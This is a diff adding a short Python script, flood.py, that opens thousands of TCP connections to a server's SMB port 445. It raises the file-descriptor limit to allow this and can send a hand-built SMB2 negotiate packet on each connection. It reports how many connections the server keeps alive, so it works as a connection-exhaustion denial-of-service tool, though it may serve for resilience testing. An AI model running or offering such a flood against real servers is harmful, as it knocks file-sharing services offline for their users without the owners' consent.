@@ -1,0 +1,47 @@
+"""Opens connections to a server's port 445 and keeps them: python3 flood.py HOST FROM COUNT idle|negotiate
+
+FROM is the address to come from. Prints `open N` when it has tried them all, and on each line of its stdin `alive N`: how many the server
+has not closed. Ends with its stdin.
+"""
+import resource
+import socket
+import struct
+import sys
+
+host, source, count, what = sys.argv[1:]
+resource.setrlimit(resource.RLIMIT_NOFILE, (20_000, 20_000))
+
+HEADER = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, 0, 31, 0, 0, 0, 0, 0, 0) + bytes(16)
+NEGOTIATE = HEADER + struct.pack("<HHHHI", 36, 1, 1, 0, 0) + b"\1" * 16 + bytes(8) + struct.pack("<H", 0x0302)
+
+
+def opened():
+    place = socket.socket()
+    place.settimeout(5)
+    place.bind((source, 0))
+    try:
+        place.connect((host, 445))
+        if what == "negotiate":
+            place.sendall(struct.pack(">I", len(NEGOTIATE)) + NEGOTIATE)
+    except OSError:
+        place.close()
+        return None
+    place.setblocking(False)
+    return place
+
+
+def alive(place):
+    try:
+        while data := place.recv(4096):
+            pass
+    except BlockingIOError:
+        return True
+    except OSError:
+        pass
+    return False
+
+
+places = [place for place in (opened() for _ in range(int(count))) if place]
+print("open", len(places), flush=True)
+for _ in sys.stdin:
+    print("alive", sum(map(alive, places)), flush=True)
